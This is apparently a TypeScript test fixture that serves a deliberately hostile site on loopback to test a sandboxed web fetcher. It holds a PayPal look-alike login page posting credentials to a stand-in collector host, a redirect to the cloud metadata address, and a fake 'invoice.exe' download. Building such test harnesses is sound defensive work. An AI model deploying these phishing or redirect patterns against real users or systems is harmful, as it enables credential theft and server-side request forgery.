import { createServer, type RequestListener, type Server } from 'node:http';
import { createServer as createTcpServer, type Server as TcpServer, type Socket } from 'node:net';
import type { AddressInfo } from 'node:net';

export interface HostileSite {
  /** `http://127.0.0.1:PORT`. */
  origin: string;
  /** `127.0.0.1:PORT`, as the sandbox's allow list takes it. */
  address: string;
  /** Connections to the port on loopback that `/to-loopback` leads to, and that nobody may touch. */
  trapped(): number;
  stop(): Promise<void>;
}

const HUGE_BYTES = 64 * 1024 * 1024;

/** What a look-alike page takes, it sends elsewhere. */
const LOGIN = `<!doctype html><html><head><title>PayPal: Log in to your account</title><meta property="og:site_name" content="PayPal"></head><body>
<h1>PayPal</h1><p>Your account has been limited. Log in to confirm your identity.</p>
<form method="post" action="http://collector.example/take.php"><input name="email"><input type="password" name="password"><button>Log in</button></form>
</body></html>`;

/**
 * A web site on loopback that does what phishing sites do:
 * `/chain` leads by all four kinds of redirect (HTTP, Refresh header, meta refresh, script) to `/login`, a credential form on a look-alike page;
 * `/to-metadata` and `/to-loopback` lead to addresses that a visit must not reach; `/loop`, `/huge`, `/hang` and `/download` are what their names say;
 * `/plain` is a harmless page.
 */
export async function startHostileSite(): Promise<HostileSite> {
  let trapped = 0;
  const trap = createTcpServer((socket) => {
    trapped += 1;
    socket.destroy();
  });
  const trapPort = await listen(trap);
  const routes = routesOf(`http://127.0.0.1:${trapPort}/admin`);
  const site = createServer((request, response) => {
    const route = routes[(request.url ?? '/').split('?', 1)[0] ?? '/'];
    if (route === undefined) response.writeHead(404, { 'content-type': 'text/html' }).end('<title>Not found</title>');
    else route(request, response);
  });
  const open = new Set<Socket>();
  site.on('connection', (socket) => {
    open.add(socket);
    socket.on('error', () => undefined);
    socket.once('close', () => open.delete(socket));
  });
  const address = `127.0.0.1:${await listen(site)}`;
  return {
    origin: `http://${address}`,
    address,
    trapped: () => trapped,
    async stop() {
      for (const socket of open) socket.destroy();
      await Promise.all([site, trap].map((server) => new Promise((resolve) => server.close(resolve))));
    },
  };
}

function routesOf(trapUrl: string): Record<string, RequestListener> {
  return {
    '/chain': moved('/by-header'),
    '/by-header': page('<title>One moment</title>', { refresh: '0; url=/by-meta' }),
    '/by-meta': page('<meta http-equiv="refresh" content="0; url=/by-script"><title>One moment</title>'),
    '/by-script': page('<title>One moment</title><script>location.href = "/login";</script>'),
    '/login': page(LOGIN),
    '/plain': page('<title>Our garden</title><p>The tulips are out.</p>'),
    '/to-metadata': moved('http://169.254.169.254/latest/meta-data/'),
    '/to-loopback': moved(trapUrl),
    '/loop': moved('/loop-again'),
    '/loop-again': moved('/loop'),
    '/huge': pour,
    '/hang': () => undefined,
    '/download': (_, response) => {
      const disposition = 'attachment; filename="invoice.exe"';
      response.writeHead(200, { 'content-type': 'application/octet-stream', 'content-disposition': disposition });
      response.end(Buffer.concat([Buffer.from('MZ'), Buffer.alloc(4_096)]));
    },
  };
}

function page(html: string, headers: Record<string, string> = {}): RequestListener {
  return (_, response) => response.writeHead(200, { 'content-type': 'text/html; charset=utf-8', ...headers }).end(html);
}

function moved(location: string): RequestListener {
  return (_, response) => response.writeHead(302, { location }).end();
}

/** As much as the reader takes, and far more than it should. */
const pour: RequestListener = (_, response) => {
  response.writeHead(200, { 'content-type': 'text/html' });
  response.write('<title>Huge</title><!-- ');
  const block = Buffer.alloc(64 * 1_024, 'x');
  let sent = 0;
  const go = () => {
    while (sent < HUGE_BYTES && !response.destroyed) {
      sent += block.length;
      if (!response.write(block)) {
        response.once('drain', go);
        return;
      }
    }
    response.end();
  };
  go();
};

async function listen(server: Server | TcpServer): Promise<number> {
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  return (server.address() as AddressInfo).port;
}
